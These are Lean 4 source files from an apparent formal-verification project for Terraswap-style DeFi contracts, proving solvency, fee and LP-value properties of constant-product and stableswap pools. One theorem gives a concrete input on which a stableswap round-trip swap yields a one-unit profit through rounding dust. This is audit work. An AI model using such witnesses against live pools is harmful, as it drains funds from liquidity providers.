  if a * b / E18 ≤ U256MAX then .ok (a * b / E18) else .panic
/-- `Decimal * Decimal` (128-bit atomics) -/
@[inline] def dec128Mul (a b : Nat) : Res Nat :=
  if a * b / E18 ≤ U128MAX then .ok (a * b / E18) else .panic
/-- `Decimal256::checked_from_ratio(n, d)?` -/
@[inline] def dec256FromRatioC (n d : Nat) : Res Nat := mulRatioC U256MAX n E18 d

/-- `Uint256 -> Uint128` `try_into().map_err(..)?` -/
@[inline] def to128 (a : Nat) : Res Nat := if a ≤ U128MAX then .ok a else .err

/-- unchecked-after-`checked_div(..).unwrap()`: panics on ÷0 -/
@[inline] def pdiv (a b : Nat) : Res Nat := if b = 0 then .panic else .ok (a / b)

/-- `Decimal256::checked_mul` (atomics): full-width product, floor ÷ 10^18, `Err` on overflow -/
@[inline] def dec256MulC (a b : Nat) : Res Nat :=
  if a * b / E18 ≤ U256MAX then .ok (a * b / E18) else .err
/-- `Decimal256::checked_div` (atomics) = `checked_from_ratio(a, b)`: `Err` on ÷0 / overflow -/
@[inline] def dec256DivC (a b : Nat) : Res Nat := mulRatioC U256MAX a E18 b
/-- `Decimal256::from_atomics(v, p).map_err(..)?` (terraswap_pair `decimal_with_precision`), atomics -/
@[inline] def dec256WithPrecision (v p : Nat) : Res Nat :=
  if p < 18 then cmul U256MAX v (10 ^ (18 - p))
  else .ok (v / 10 ^ (p - 18))
/-- terraswap_pair `to_uint256_with_precision`: `atomics / 10u128.pow(18 - precision)`; the `u32`
    subtraction panics (overflow checks) when `precision > 18` -/
@[inline] def dec256ToUintPrecision (v p : Nat) : Res Nat :=
  if 18 < p then .panic else .ok (v / 10 ^ (18 - p))
/-- `u64::checked_mul(..)` whose `None` is unwrapped by the caller -/
@[inline] def pmul64 (a b : Nat) : Res Nat := pmul U64MAX a b

/-- Integer square root, digit by digit from bit `k-1` down: the largest `r < 2^k`-extension of
    `r` with `r*r ≤ n`. `isqrt n` is `⌊√n⌋` for `n < 2^256` (what `Uint256::isqrt` returns). -/
def isqrtBits : Nat → Nat → Nat → Nat
  | 0, _, r => r
  | k + 1, n, r =>
    let c := r + 2 ^ k
    if c * c ≤ n then isqrtBits k n c else isqrtBits k n r

def isqrt (n : Nat) : Nat := isqrtBits 128 n 0

/-! ## primitives used by the regenerated kernels (`WW/Gen/Kernels.lean`, written by `tools/rs2lean.py`) -/

def U8MAX : Nat := 2 ^ 8 - 1
def U16MAX : Nat := 2 ^ 16 - 1
def U32MAX : Nat := 2 ^ 32 - 1

/-- `r.unwrap_or(d)` on the `Result` of a checked operation: `Err` becomes the (already evaluated) default;
    a panic inside the operation stays a panic -/
@[inline] def resUnwrapOr {α : Type} : Res α → α → Res α
  | .ok a, _ => .ok a
  | .err, d => .ok d
  | .panic, _ => .panic

/-- `x.unwrap()` / `x.expect(..)` on a `Result` or on an `Option` produced by a checked operation:
    `Err` / `None` becomes a panic -/
@[inline] def unwrapPanic {α : Type} : Res α → Res α
  | .err => .panic
  | r => r
/-- `opt?` / `opt.ok_or(..)` / `opt.ok_or_else(..)` on an `Option` held as data: `None` = `err` -/
@[inline] def optErr {α : Type} : Option α → Res α
  | some a => .ok a
  | none => .err
/-- `opt.unwrap()` on an `Option` held as data -/
@[inline] def optPanic {α : Type} : Option α → Res α
  | some a => .ok a
  | none => .panic
/-- `a.saturating_add(b)` at width `max` -/
@[inline] def satAdd (max a b : Nat) : Nat := if a + b ≤ max then a + b else max
/-- `a.saturating_mul(b)` at width `max` -/
@[inline] def satMul (max a b : Nat) : Nat := if a * b ≤ max then a * b else max
/-- `x.try_into()` / `T::try_from(x)` / `to_u64()` into a narrower unsigned type: `Err` / `None` above `max` -/
@[inline] def narrowTo (max a : Nat) : Res Nat := if a ≤ max then .ok a else .err
/-- primitive-integer `a.pow(e)` with overflow checks: panics above `max` -/
@[inline] def ppow (max a e : Nat) : Res Nat := if a ^ e ≤ max then .ok (a ^ e) else .panic
/-- `Decimal256::from_atomics(v, places)`: `Err(RangeExceeded)` when `v * 10^(18-places)` overflows -/
@[inline] def dec256FromAtomics (v p : Nat) : Res Nat := dec256WithPrecision v p

/-- the `while n > 1` loop of `Decimal256::checked_pow` (square and multiply on `checked_mul`), then the
    final unchecked `x * y`; `fuel` bounds the iterations (`n` halves every round, so `fuel = n` is enough) -/
def dec256PowLoop : Nat → Nat → Nat → Nat → Res Nat
  | 0, x, y, _ => dec256Mul x y
  | fuel + 1, x, y, n =>
    if n ≤ 1 then dec256Mul x y
    else if n % 2 = 0 then
      (dec256MulC x x).bind fun x2 => dec256PowLoop fuel x2 y (n / 2)
    else
      (dec256MulC x y).bind fun y2 => (dec256MulC x x).bind fun x2 => dec256PowLoop fuel x2 y2 ((n - 1) / 2)
/-- `Decimal256::checked_pow(exp: u32)` on atomics -/
def dec256PowC (x n : Nat) : Res Nat := if n = 0 then .ok E18 else dec256PowLoop n x E18 n

end WW
