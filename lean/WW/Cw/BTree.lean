/-
  Map primitives of the regenerated kernels (`tools/rs2lean.py`, DESIGN 9.7): the two look-ups of
  `alloc::collections::BTreeMap<u64, V>` the incentive's flow helpers use.  Import-free (core Lean only).

  A `BTreeMap<u64, V>` VALUE is represented by an association list `List (Nat × V)` of its entries.
  Nothing is assumed about the list: not sorted, not duplicate-free.  A real BTreeMap holds one entry per
  key (`insert` replaces), so a list with a repeated key is not the content of any map; the functions are
  total on such lists all the same (among entries with the same, greatest key the LATER one of the list is
  returned) and no statement about the Rust depends on that choice.  The result does not depend on the
  order of a duplicate-free list.
-/
namespace WW

/-- `BTreeMap::last_key_value(&self) -> Option<(&K, &V)>` (Rust std, `alloc::collections::btree_map`):
    "Returns the last key-value pair in the map. The key in this pair is the maximum key in the map."
    `None` for the empty map.  Here: the entry with the greatest key of the list. -/
def btreeLastKeyValue {V : Type} : List (Nat × V) → Option (Nat × V)
  | [] => none
  | p :: t =>
    match btreeLastKeyValue t with
    | none => some p
    | some q => if p.1 ≤ q.1 then some q else some p

/-- `map.range(..=b).next_back()`: `BTreeMap::range` "constructs a double-ended iterator over a sub-range
    of elements in the map" — here the keys `k ≤ b` (`RangeToInclusive`) in ascending key order — and
    `DoubleEndedIterator::next_back` takes its last element: the entry with the greatest key `≤ b`, `None`
    when no key is `≤ b`. -/
def btreeRangeToInclNextBack {V : Type} : List (Nat × V) → Nat → Option (Nat × V)
  | [], _ => none
  | p :: t, b =>
    match btreeRangeToInclNextBack t b with
    | none => if p.1 ≤ b then some p else none
    | some q => if p.1 ≤ b then (if p.1 ≤ q.1 then some q else some p) else some q

end WW
