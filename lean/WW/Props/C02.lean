/-
  C02 — Constant-product swap: exact price, exact fee split, no free money.
  Property theorems only (helpers live in WW/Proofs). The model `cpSwap` is the replica of
  `terraswap_pair::helpers::compute_swap` (ConstantProduct arm); it is tied to the Rust by the
  `swapmath` correspondence engine.
-/
import WW.Proofs.CpSwap
namespace WW.C02
open WW

/-- The property's quantifier: reserves and offer in `[1, 2^128)`, fee triple valid
    (each share and the total below 100 %). Decimal settings do not enter the computation. -/
structure Dom (op ap off : Nat) (f : Fees) : Prop where
  op1 : 1 ≤ op
  ap1 : 1 ≤ ap
  off1 : 1 ≤ off
  op128 : op ≤ U128MAX
  ap128 : ap ≤ U128MAX
  off128 : off ≤ U128MAX
  fees : f.valid = true

/-- The swap computation never aborts (no panic) anywhere on the domain. -/
theorem never_panics {op ap off : Nat} {f : Fees} (h : Dom op ap off f) :
    cpSwap op ap off f ≠ .panic := by
  rw [cpSwap_closed h.op128 h.ap128 h.off128 h.op1 h.fees]
  split <;> simp

/-- It is computed (returns `Ok`) exactly when the result — whose only field that can exceed the
    ask reserve is the spread — fits in 128 bits; otherwise it returns an error, never a panic. -/
theorem ok_iff_fits {op ap off : Nat} {f : Fees} (h : Dom op ap off f) :
    (∃ c, cpSwap op ap off f = .ok c) ↔ cpSpread op ap off ≤ U128MAX := by
  rw [cpSwap_closed h.op128 h.ap128 h.off128 h.op1 h.fees]
  constructor
  · rintro ⟨c, hc⟩
    by_contra hn
    rw [if_neg hn] at hc
    cases hc
  · intro hs
    exact ⟨_, if_pos hs⟩

theorem ok_eq {op ap off : Nat} {f : Fees} (h : Dom op ap off f) {c : SwapComp}
    (hc : cpSwap op ap off f = .ok c) : c = cpResult op ap off f :=
  cpSwap_ok_result h.op128 h.ap128 h.off128 h.op1 h.fees hc

/-- proceeds + swap fee + protocol fee + burn fee = ⌊ask·offer/(offer_reserve+offer)⌋ exactly -/
theorem gross_identity {op ap off : Nat} {f : Fees} (h : Dom op ap off f) {c : SwapComp}
    (hc : cpSwap op ap off f = .ok c) :
    c.ret + c.swapFee + c.protFee + c.burnFee = ap * off / (op + off) := by
  rw [ok_eq h hc]
  have hv := h.fees
  simp only [Fees.valid, Bool.and_eq_true, decide_eq_true_eq] at hv
  have := three_fees_le (cpGross op ap off) f.swap f.prot f.burn E18 (by omega)
  simp only [cpResult, feeOf, cpGross] at *
  omega

/-- each fee equals ⌊share · gross⌋ -/
theorem fee_exact {op ap off : Nat} {f : Fees} (h : Dom op ap off f) {c : SwapComp}
    (hc : cpSwap op ap off f = .ok c) :
    c.swapFee = (ap * off / (op + off)) * f.swap / E18 ∧
    c.protFee = (ap * off / (op + off)) * f.prot / E18 ∧
    c.burnFee = (ap * off / (op + off)) * f.burn / E18 := by
  rw [ok_eq h hc]
  exact ⟨rfl, rfl, rfl⟩

/-- the proceeds are strictly less than the ask reserve -/
theorem proceeds_lt_reserve {op ap off : Nat} {f : Fees} (h : Dom op ap off f) {c : SwapComp}
    (hc : cpSwap op ap off f = .ok c) : c.ret < ap := by
  rw [ok_eq h hc]
  have := cpGross_lt_ask (off := off) h.op1 h.ap1
  simp only [cpResult]
  omega

/-- Swapping there and straight back (the pool state in between being what the pair contract
    reports: offer reserve + offer, ask reserve − proceeds − protocol fee − burn fee) never returns
    more than was put in — even gross of the second swap's fees — for any valid fees incl. zero.
    `hpool`: the intermediate offer reserve is itself a `Uint128` (it is a token balance). -/
theorem round_trip_no_profit {op ap off : Nat} {f : Fees} (h : Dom op ap off f)
    (hpool : op + off ≤ U128MAX) {c c2 : SwapComp}
    (hc : cpSwap op ap off f = .ok c)
    (hc2 : cpSwap (ap - c.ret - c.protFee - c.burnFee) (op + off) c.ret f = .ok c2) :
    c2.ret + c2.swapFee + c2.protFee + c2.burnFee ≤ off := by
  have hce := ok_eq h hc
  have hgl : cpGross op ap off < ap := cpGross_lt_ask (off := off) h.op1 h.ap1
  have hfl := fees_le_gross h.fees (cpGross op ap off)
  have hap := h.ap128
  have hret : c.ret = cpGross op ap off - feeOf f.swap (cpGross op ap off)
      - feeOf f.prot (cpGross op ap off) - feeOf f.burn (cpGross op ap off) := by rw [hce]; rfl
  have hpf : c.protFee = feeOf f.prot (cpGross op ap off) := by rw [hce]; rfl
  have hbf : c.burnFee = feeOf f.burn (cpGross op ap off) := by rw [hce]; rfl
  have hc2e := cpSwap_ok_result (op := ap - c.ret - c.protFee - c.burnFee) (ap := op + off)
    (off := c.ret) (f := f) (by unfold In128; omega) hpool (by unfold In128; omega) (by omega)
    h.fees hc2
  rw [hc2e, cpResult_sum h.fees]
  unfold cpGross
  apply Nat.div_le_of_le_mul
  rw [hret, hpf, hbf]
  have hg : cpGross op ap off * (op + off) ≤ ap * off := Nat.div_mul_le_self _ _
  have this := round_trip_core op ap off (cpGross op ap off) (feeOf f.swap (cpGross op ap off))
    (feeOf f.prot (cpGross op ap off)) (feeOf f.burn (cpGross op ap off)) hg hfl (le_of_lt hgl)
  exact this

/-- non-vacuity: a concrete swap with non-zero fees inside the domain, and its exact outcome -/
example : cpSwap 1000000 2000000 1000 ⟨1000000000000000, 3000000000000000, 500000000000000⟩
    = .ok ⟨1992, 2, 5, 1, 0⟩ := by decide

end WW.C02
