/-
  C04 — Three-asset stableswap pool: solvent, LP value monotone, amp ramps bounded.
  Property theorems only (helpers live in WW/Proofs/Trio.lean). The model `WW.Trio.*` is the replica
  of `stableswap_3pool` (curve.rs, helpers.rs, commands.rs, queries.rs, contract.rs); it is tied to the
  Rust by the `trio` correspondence engine (pure calls through the hook + contract histories).

  Histories: `run s ops` folds `step` over a list of `(block height, sender, operation)`; a failed
  operation leaves the state untouched. `Inv` is established by `mkInit` (`inv_init`) and preserved by
  every step, so every theorem taking `Inv s` speaks about every reachable state.

  FULL: amp clauses, ramp acceptance rule, stored-amp range over all histories, pool selection,
  solvency over all histories, fee split, LP mint bound for deposits, withdrawal bound.
  VIOLATED ON THE CURRENT CODE (witness below, reproduced on the real contract by the harness):
  "a swap there-and-back never yields a profit" — by rounding dust of the Newton solvers.
  PARTIAL: D-per-LP across swaps / there-and-back need the solvers' accuracy; what the solver's
  termination test alone gives (`y_solver_residual_partial`) and the exact per-asset withdrawal
  bound are proved; the rest is covered by the harness' exact-solver oracle (a test).
-/
import WW.Proofs.Trio
namespace WW.C04
open WW WW.Trio

/-! ### amplification -/

/-- **amp_between**: whatever `compute_amp_factor` returns, at every block height and for every
    stored configuration, lies between the ramp's start and target values. -/
theorem amp_between {init target cur start stop a : Nat}
    (h : ampFactor init target cur start stop = .ok a) :
    min init target ≤ a ∧ a ≤ max init target := by
  obtain ⟨he, hw⟩ := ampFactor_ok_eq h
  rw [he]
  exact ampClosed_between hw

/-- **amp_linear**: on a well-formed clock (`u64` values, height not before the ramp's start) the
    effective amplification is defined and equals the closed form: linear in the block height with
    floor, `init ± ⌊|target − init|·(h − start)/(stop − start)⌋` before `stop`, `target` from `stop` on. -/
theorem amp_linear {init target h start stop : Nat} (hi : init ≤ U64MAX) (ht : target ≤ U64MAX)
    (hh : h ≤ U64MAX) (hw : h < stop → start ≤ h) :
    ampFactor init target h start stop = .ok
      (if h < stop then
        (if target ≥ init then init + (target - init) * (h - start) / (stop - start)
         else init - (init - target) * (h - start) / (stop - start))
       else target) :=
  ampFactor_closed hi ht hh hw

/-- … in particular it equals the target at and after the stop block. -/
theorem amp_at_stop {init target h start stop : Nat} (hs : stop ≤ h) :
    ampFactor init target h start stop = .ok target := by
  unfold ampFactor
  rw [if_neg (by omega)]

/-- **amp_monotone_in_h**: during a ramp the effective amplification moves monotonically from the
    start value to the target as the block height grows (up-ramps never fall, down-ramps never rise). -/
theorem amp_monotone_in_h {init target start stop h1 h2 a1 a2 : Nat}
    (hs : start ≤ h1) (h12 : h1 ≤ h2) (hse : start < stop)
    (e1 : ampFactor init target h1 start stop = .ok a1)
    (e2 : ampFactor init target h2 start stop = .ok a2) :
    (init ≤ target → a1 ≤ a2) ∧ (target ≤ init → a2 ≤ a1) := by
  rw [(ampFactor_ok_eq e1).1, (ampFactor_ok_eq e2).1]
  exact ampClosed_mono hs h12 hse

/-- **ramp_accept_iff**: in a reachable state, a pure ramp request `RampAmp{future_a, future_block}`
    at block `h` is accepted iff the sender is the owner and
    `1 ≤ A' ≤ 10⁶ ∧ A' ≤ 10·A ∧ A ≤ 10·A' ∧ future_block ≥ h + 10000`, where `A` ("current") is the
    amplification *in effect at block `h`* — the interpolated value while a ramp is running.
    On acceptance the new ramp starts from that value at block `h`. -/
theorem ramp_accept_iff {s : St} {h u fa fb : Nat} (hi : Inv s) (hh : h + 10000 ≤ U64MAX)
    (hclock : h < s.amp.stop → s.amp.start ≤ h) :
    let cur := ampClosed s.amp.init s.amp.target h s.amp.start s.amp.stop
    (∃ s', updateConfig s h u none none none none (some (fa, fb)) = .ok s') ↔
      (u = s.owner ∧ 1 ≤ fa ∧ fa ≤ 1000000 ∧ fa ≤ 10 * cur ∧ cur ≤ 10 * fa ∧ h + 10000 ≤ fb) := by
  intro cur
  have h64 : (1000000 : Nat) ≤ U64MAX := by decide
  have hat : s.amp.at h = .ok cur :=
    ampFactor_closed (by have := hi.ampHi; omega) (by have := hi.ampHi; omega) (by omega) hclock
  have hcur : cur ≤ 1000000 := (amp_at_range hi.ampLo hi.ampHi hat).2
  have hclosed := rampAmp_closed (A := s.amp) (fa := fa) (fb := fb) hat hcur hh
  constructor
  · rintro ⟨s', hs'⟩
    obtain ⟨hown, _, hr, _⟩ := updateConfig_spec hs'
    have hr := hr fa fb rfl
    rw [hclosed] at hr
    by_cases hrule : rampRule cur h fa fb
    · exact ⟨hown, hrule⟩
    · rw [if_neg hrule] at hr; cases hr
  · rintro ⟨hown, hrule⟩
    have hrule : rampRule cur h fa fb := hrule
    unfold updateConfig
    subst hown
    simp only [guardErr, decide_true, if_true, Res.bind_ok, hclosed, if_pos hrule]
    exact ⟨_, rfl⟩

/-- an accepted ramp stores (current amp, requested target, this block, requested stop block) -/
theorem ramp_stored {s s' : St} {h u fa fb : Nat} {o c : Option Nat} {f : Option Fees}
    {t : Option (Bool × Bool × Bool)}
    (hs : updateConfig s h u o c f t (some (fa, fb)) = .ok s') :
    ∃ cur, s.amp.at h = .ok cur ∧ s'.amp = { init := cur, target := fa, start := h, stop := fb } := by
  obtain ⟨_, _, hr, _⟩ := updateConfig_spec hs
  obtain ⟨cur, hc, hA, _⟩ := rampAmp_ok_bounds (hr fa fb rfl)
  exact ⟨cur, hc, hA⟩

/-- instantiation establishes the invariant (fees valid, amp within `[1, 10⁶]` or it is rejected) -/
theorem inv_init {kind : Nat → Bool} {fees : Fees} {amp h0 : Nat} {fund : Nat → Nat → Nat}
    {sup : Nat → Nat} {s : St} (h : mkInit kind fees amp h0 fund sup = .ok s) : Inv s :=
  init_inv h

/-- **amp_inv_reach**: over ALL histories (any senders, any block heights, any interleaving, failed
    operations included) the stored initial and target amplification stay in `[1, 10⁶]`, and hence
    so does the amplification in effect at any height at which it is defined. -/
theorem amp_inv_reach {s : St} (hi : Inv s) (ops : List (Nat × Nat × Op)) :
    let s' := run s ops
    (1 ≤ s'.amp.init ∧ s'.amp.init ≤ 1000000 ∧ 1 ≤ s'.amp.target ∧ s'.amp.target ≤ 1000000) ∧
    ∀ h a, s'.amp.at h = .ok a → 1 ≤ a ∧ a ≤ 1000000 := by
  intro s'
  have hr := run_inv hi ops
  exact ⟨⟨hr.ampLo.1, hr.ampHi.1, hr.ampLo.2, hr.ampHi.2⟩, fun h a ha => amp_at_range hr.ampLo hr.ampHi ha⟩

/-! ### pool selection, solvency, fees -/

/-- **select_correct**: for each of the six directions the pools are assigned
    (offer, ask, unswapped) as named; every other pair of asset indices — same asset twice or an
    asset that is not in the pool — is `AssetMismatch` (an error). -/
theorem select_correct (offer ask : Nat) :
    select offer ask =
      if offer < 3 ∧ ask < 3 ∧ offer ≠ ask then .ok (offer, ask, 3 - offer - ask) else .err :=
  select_eq offer ask

/-- **trio_solvent**: over ALL histories the pool's balance of every asset covers the pending
    protocol fees, i.e. balance = reported reserve (`balance − pending`, what `Pool` answers) + owed
    protocol fees, with no truncation. -/
theorem trio_solvent {s : St} (hi : Inv s) (ops : List (Nat × Nat × Op)) (i : Nat) :
    (run s ops).pend i ≤ (run s ops).bal i ∧
    (run s ops).bal i = ((run s ops).bal i - (run s ops).pend i) + (run s ops).pend i := by
  have := (run_inv hi ops).solvent i
  omega

/-- **trio_fee_split**: whenever `compute_swap` returns, proceeds + swap fee + protocol fee + burn fee
    equal the curve output `swap_to(..).amount_swapped` exactly, each fee is `⌊share · output⌋`, and the
    curve output is strictly below the ask pool. -/
theorem trio_fee_split {A : AmpCfg} {cur op ap un off : Nat} {f : Fees} {c : SwapComp}
    (h : computeSwap A cur op ap un off f = .ok c) :
    ∃ r, swapTo A cur off op ap un = .ok r ∧
      c.ret + c.swapFee + c.protFee + c.burnFee = r.swapped ∧
      c.swapFee = r.swapped * f.swap / E18 ∧ c.protFee = r.swapped * f.prot / E18 ∧
      c.burnFee = r.swapped * f.burn / E18 ∧ r.swapped < ap := by
  obtain ⟨r, hr, h1, h2, h3, h4, _⟩ := computeSwap_ok h
  have := computeSwap_lt_pool h
  exact ⟨r, hr, h4, h1, h2, h3, by omega⟩

/-- **mint_le** (D per LP never decreases across deposits, for the code's own `D` — the same `D`
    the swaps use): the LP minted for a deposit satisfies `mint · D₀ ≤ S · (D₁ − D₀)`,
    i.e. `(S + mint) · D₀ ≤ S · D₁`. -/
theorem mint_le {A : AmpCfg} {cur da db dc sa sb sc S m : Nat}
    (h : mintAmount A cur da db dc sa sb sc S = .ok m) :
    ∃ d0 d1, computeD A cur sa sb sc = .ok d0 ∧ computeD A cur (sa + da) (sb + db) (sc + dc) = .ok d1 ∧
      m * d0 ≤ S * (d1 - d0) ∧ (S + m) * d0 ≤ S * d1 := by
  obtain ⟨d0, d1, h0, h1, hlt, hne, hm⟩ := mintAmount_ok h
  have hle : m * d0 ≤ S * (d1 - d0) := by rw [hm]; exact Nat.div_mul_le_self _ _
  refine ⟨d0, d1, h0, h1, hle, ?_⟩
  obtain ⟨k, hk⟩ : ∃ k, d1 = d0 + k := ⟨d1 - d0, by omega⟩
  subst hk
  have : d0 + k - d0 = k := by omega
  rw [this] at hle
  nlinarith

/-- withdrawals (exact, no solver involved): of every pool asset a withdrawal of `amt` LP takes at
    most the proportional part of the reserve, `taken_j · S ≤ reserve_j · amt`, and burns exactly `amt`
    LP — so no reserve per LP token, and hence no homogeneous monotone invariant per LP token, falls. -/
theorem withdraw_reserve_per_lp {s s' : St} {u amt j : Nat} (h : withdraw s u amt = .ok s') (hj : j < 3) :
    (s.bal j - s'.bal j) * s.lpSup ≤ (s.bal j - s.pend j) * amt ∧
    s'.lpSup = s.lpSup - amt ∧ amt ≤ s.lpSup ∧ s'.pend j = s.pend j := by
  obtain ⟨b, _, _, _, hl, ha, hb⟩ := withdraw_spec h
  exact ⟨hb j hj, hl, ha, by rw [b.pend]⟩

/-! ### there-and-back, D per LP across swaps: violated by dust / partial -/

/-- full statement: swapping there and straight back (pool in between as the contract reports it:
    offer joins the offer pool; proceeds, protocol fee and burn fee leave the ask pool) never returns
    more than was put in -/
def RoundTripNoProfit : Prop :=
  ∀ (A : AmpCfg) (cur op ap un off : Nat) (f : Fees) (c c2 : SwapComp), f.valid = true →
    computeSwap A cur op ap un off f = .ok c →
    computeSwap A cur (ap - c.ret - c.protFee - c.burnFee) (op + off) un c.ret f = .ok c2 →
    c2.ret ≤ off

/-- **negation witness** (kernel-checked; the same input is replayed on the real contract by the
    harness, `replays/known/C04-round-trip-dust.json`): amp 1, no ramp, zero fees, reserves
    (1101, 1318, 1200): 1047 of asset 0 buy 769 of asset 1, and those 769 buy back 1048 of asset 0. -/
theorem round_trip_fails_on_current : ¬ RoundTripNoProfit := by
  intro h
  have h1 : computeSwap ⟨1, 1, 0, 0⟩ 0 1101 1318 1200 1047 ⟨0, 0, 0⟩ = .ok ⟨769, 278, 0, 0, 0⟩ := by decide
  have h2 : computeSwap ⟨1, 1, 0, 0⟩ 0 (1318 - 769 - 0 - 0) (1101 + 1047) 1200 769 ⟨0, 0, 0⟩
      = .ok ⟨1048, 279, 0, 0, 0⟩ := by decide
  have := h ⟨1, 1, 0, 0⟩ 0 1101 1318 1200 1047 ⟨0, 0, 0⟩ _ _ (by decide) h1 h2
  exact absurd this (by decide)

/-- **partial** (what the solver's own termination test gives): a `y` that `compute_y_raw` returns
    through its convergence exit is the integer root of `F(t) = t² + (b − d)·t − c` up to one unit,
    `−(2·y_prev + b − d) < F(y) ≤ 1`; the alternative is that the 1000-iteration budget ran out
    (`yExhausted`; never observed by the harness). Missing for the full there-and-back / D-per-LP
    statements across swaps: the same accuracy for `compute_d` (whose `d_prod` is a chain of three
    floor divisions) — the harness' exact bisection oracle covers that part as a test. -/
theorem y_solver_residual_partial {b c d fuel y0 y : Nat} (h : yLoop b c d fuel y0 = .ok y) :
    (∃ yp, YConverged b c d yp y ∧
      y * y + b * y ≤ c + d * y + 1 ∧ c + d * y < y * y + b * y + (2 * yp + b - d)) ∨
    yExhausted b c d fuel y0 = true := by
  rcases yLoop_ok_cases fuel y0 y h with ⟨yp, hc⟩ | hex
  · left; exact ⟨yp, hc, y_residual_nat hc⟩
  · right; exact hex

/-- **partial** (swaps): a swap pays out of the ask pool strictly less than the pool's own part
    (`balance − pending`), charges the fee ledgers exactly the computed fees and touches no other pool
    than the two named; the accuracy of the two Newton solvers is what is missing for D per LP. -/
theorem swap_effect_partial {s s' : St} {h u offer ask amt : Nat} {bp ms rc : Option Nat}
    (hs : Trio.swap s h u offer ask amt bp ms rc = .ok s') :
    ∃ c : SwapComp, offer < 3 ∧ ask < 3 ∧ offer ≠ ask ∧
      c.ret + c.swapFee + c.protFee + c.burnFee < s.bal ask - s.pend ask ∧
      s'.bal offer = s.bal offer + amt ∧ s'.bal ask = s.bal ask - c.ret - c.burnFee ∧
      s'.bal (3 - offer - ask) = s.bal (3 - offer - ask) ∧
      s'.pend ask = s.pend ask + c.protFee ∧ s'.lpSup = s.lpSup := by
  obtain ⟨c, e, _⟩ := swap_spec hs
  have h1 := e.offer3
  have h2 := e.ask3
  have h3 := e.ne
  refine ⟨c, h1, h2, h3, e.lt, ?_, ?_, ?_, ?_, e.rest.lpSup⟩
  · rw [e.bal]; simp
  · rw [e.bal, if_neg (Ne.symm h3)]; simp
  · rw [e.bal, if_neg (by omega), if_neg (by omega)]
  · rw [e.pend]; simp

/-! ### non-vacuity -/

/-- a concrete pool: instantiate (amp 100, fees 0.1 % / 0.3 % / 0.1 %), first deposit, a swap 0 → 1,
    a ramp request by the owner — all succeed and give exactly these observables -/
def demoInit : Res St :=
  mkInit (fun i => i != 1) ⟨1000000000000000, 3000000000000000, 1000000000000000⟩ 100 10
    (fun a i => if a < 6 ∧ i < 3 then 1000000000 else 0) (fun _ => 6000000000)

def demoOps : List (Nat × Nat × Op) :=
  [(11, 0, .provide 1000000 1000000 1000000 none none),
   (12, 1, .swap 0 1 10000 none none none),
   (12, 5, .updateConfig none none none none (some (1000, 10012))),
   (5012, 2, .collect)]

def demoObs (s : St) : List Nat :=
  let s' := run s demoOps
  [s'.bal 0, s'.bal 1, s'.pend 1, s'.allTime 1, s'.burned 1, s'.lpSup, s'.amp.init, s'.amp.target,
    ((s'.amp.at 5012).toOption).getD 0]

example : demoInit.toOption.map demoObs =
    some [1010000, 990039, 9, 9, 9, 3000000, 100, 1000, 550] := by decide

/-- the model's exact outputs on a concrete curve input (amp 85 ramping to 850, mid-ramp) -/
example : ampFactor 85 850 5000 0 10000 = .ok 467 := by decide

end WW.C04
