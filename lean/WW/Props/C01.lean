/-
  C01 — Constant-product pool: solvent, and an LP share never loses value.
  Property theorems only (helpers: WW/Proofs/Pair.lean; model: WW/Model/Pair.lean, engine `pair`).

  The model is the constant-product `terraswap_pair` with a cw20 LP token, both assets native or cw20,
  any number of users; operations: ProvideLiquidity (any receiver, any slippage tolerance), Swap
  (native message or cw20 `Send` hook, any `max_spread`, any receiver), WithdrawLiquidity (LP `Send`
  hook), CollectProtocolFees, UpdateConfig{pool_fees} by the owner or by anybody else, plain
  transfers of either asset or of LP tokens to the pair, malformed swaps.  A history is a list of
  such operations by any mix of users; a failed operation leaves the state untouched (`Res`).
  All amounts are unbounded naturals; the `u128` / `u256` limits appear exactly where the Rust
  errs or panics.
-/
import WW.Proofs.Pair
namespace WW.C01
open WW WW.Pair

/-- **solvency + LP bookkeeping, over all histories**: from any state satisfying the invariant (in
    particular a freshly instantiated pair, `init_inv`) every history of operations by any mix of
    users keeps: pending protocol fees ≤ balance on both assets (so balance = reported reserve + fees
    owed), LP supply = pair's own LP + Σ users' LP, and the pair's own LP is ≥ 1000 once there is
    supply.  The pair's own LP balance never decreases. -/
theorem solvent_reach (s : St) (hI : Inv s) (ops : List Op) :
    Inv (reach cpCurve s ops) ∧ s.lpPair ≤ (reach cpCurve s ops).lpPair := reach_inv s hI ops

/-- the invariant holds right after instantiation, for any asset kinds, fees and user balances -/
theorem solvent_init (n0 n1 : Bool) (f : Fees) (us : List User) (h : ∀ u ∈ us, u.lp = 0) :
    Inv (init n0 n1 f us) := init_inv n0 n1 f us h

/-- in an invariant state the `Pool` query answers, and what the pair holds is exactly the reported
    reserve plus the protocol fees it owes, on both assets -/
theorem holds_reserves_plus_fees {s : St} (hI : Inv s) :
    queryPool s = .ok (s.x0.res, s.x1.res, s.sup) ∧
    s.x0.bal = s.x0.res + s.x0.pend ∧ s.x1.bal = s.x1.res + s.x1.pend := by
  have h0 := hI.solv0; have h1 := hI.solv1
  refine ⟨?_, by simp only [Side.res]; omega, by simp only [Side.res]; omega⟩
  unfold queryPool
  rw [psub_ok h0]; rw [Res.bind_ok]
  rw [psub_ok h1]; rw [Res.bind_ok]
  rfl

/-- **the value backing one LP token never falls across one operation**: for every successful
    operation on a pool with supply, `r0·r1·S'² ≤ r0'·r1'·S²` (⇔ `√(r0 r1)/S ≤ √(r0' r1')/S'`) -/
theorem lp_value_step {s s' : St} {op : Op} (h : step cpCurve s op = .ok s') (hS : s.sup ≠ 0) :
    s.x0.res * s.x1.res * s'.sup ^ 2 ≤ s'.x0.res * s'.x1.res * s.sup ^ 2 := step_value h hS

/-- **… nor across any history** (by induction over the operation list; the supply stays positive
    because the locked minimum liquidity is part of it) -/
theorem lp_value_reach (s : St) (hI : Inv s) (hS : s.sup ≠ 0) (ops : List Op) :
    s.x0.res * s.x1.res * (reach cpCurve s ops).sup ^ 2 ≤
      (reach cpCurve s ops).x0.res * (reach cpCurve s ops).x1.res * s.sup ^ 2 := reach_value s hI hS ops

/-- a later deposit mints at most the pro-rata share on BOTH assets: `share·r_i ≤ d_i·S` -/
theorem mint_le_pro_rata {s s' : St} {u rcv d0 d1 : Nat} {tol : Option Nat}
    (h : provide cpCurve s u rcv d0 d1 tol = .ok s') (hS : s.sup ≠ 0) :
    (s'.sup - s.sup) * s.x0.res ≤ d0 * s.sup ∧ (s'.sup - s.sup) * s.x1.res ≤ d1 * s.sup ∧
    s'.lpPair = s.lpPair := by
